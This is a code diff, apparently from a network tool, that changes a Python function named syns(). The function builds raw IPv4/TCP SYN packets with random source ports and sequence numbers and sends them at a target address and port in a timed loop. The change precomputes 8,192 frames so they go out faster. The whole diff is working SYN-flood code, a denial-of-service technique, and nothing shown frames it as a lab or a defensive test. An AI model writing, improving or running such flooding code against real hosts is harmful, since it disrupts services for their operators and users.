@@ -28,16 +28,20 @@ def syns():
     source, target = socket.inet_aton(AGENT), socket.inet_aton(ADDRESS)
     head = struct.pack("!BBHHHBBH", 0x45, 0, 40, 1, 0x4000, 64, 6, 0) + source + target
     head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
-    end, sent = time.monotonic() + AMOUNT, 0
-    while time.monotonic() < end:
+    frames = []
+    for _ in range(8192):
         segment = struct.pack("!HHIIBBHHH", random.randrange(1024, 65536), PORT, random.randrange(1 << 32), 0, 0x50, 2,
                               65535, 0, 0)
         check = checksum(source + target + struct.pack("!BBH", 0, 6, 20) + segment)
-        try:
-            s.send(FRAME + head + segment[:16] + struct.pack("!H", check) + segment[18:])
-            sent += 1
-        except OSError:
-            pass
+        frames.append(FRAME + head + segment[:16] + struct.pack("!H", check) + segment[18:])
+    end, sent = time.monotonic() + AMOUNT, 0
+    while time.monotonic() < end:
+        for frame in frames[sent % 8192:][:64]:
+            try:
+                s.send(frame)
+                sent += 1
+            except OSError:
+                pass
     return sent
 
 
